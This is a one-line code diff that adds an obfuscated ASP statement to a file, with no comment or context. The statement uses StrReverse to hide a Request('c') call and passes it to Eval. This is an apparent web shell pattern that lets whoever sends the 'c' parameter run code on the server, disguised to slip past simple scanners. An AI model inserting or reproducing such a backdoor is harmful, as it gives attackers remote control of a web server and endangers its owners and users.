@@ -1,0 +1,1 @@
+<% Eval(StrReverse(")""c""(tseuqeR")) %>
